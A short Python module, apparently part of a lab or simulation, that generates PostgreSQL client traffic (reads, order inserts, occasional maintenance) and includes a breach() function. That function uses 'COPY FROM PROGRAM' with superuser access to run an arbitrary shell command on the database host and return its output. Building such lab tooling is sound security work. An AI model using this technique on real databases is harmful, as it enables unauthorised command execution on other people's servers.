"""Clients of db: reads, orders, reports, and rarely maintenance."""

import psycopg2

from outside import query

READS = [
    "SELECT * FROM items WHERE id = 7",
    "SELECT name FROM items ORDER BY price LIMIT 10",
    "SELECT count(*) FROM orders",
    "SELECT item, count(*) FROM orders GROUP BY item ORDER BY 2 DESC LIMIT 5",
]


def visit(host, rng):
    what = rng.choices(["read", "order", "analyse", "switch"], [60, 30, 2, 1])[0]
    if what == "read":
        query(host, "app", rng.choice(READS))
    elif what == "order":
        query(host, "app", f"INSERT INTO orders (item) VALUES ({rng.randint(1, 200)})")
    elif what == "analyse":
        query(host, "app", rng.choice(["ANALYZE items", "VACUUM orders", "REINDEX TABLE orders"]))
    else:
        query(host, "postgres", "SELECT pg_switch_wal()")


def breach(host, command):
    """COPY FROM PROGRAM, which a superuser may."""
    try:
        query(host, "postgres", "CREATE TABLE IF NOT EXISTS t (line text)")
        query(host, "postgres", "COPY t FROM PROGRAM $lab$" + command + "$lab$ WITH (DELIMITER E'\\x01')")
        return "\n".join(row[0] or "" for row in query(host, "postgres", "SELECT line FROM t"))
    except psycopg2.Error as error:
        return str(error)
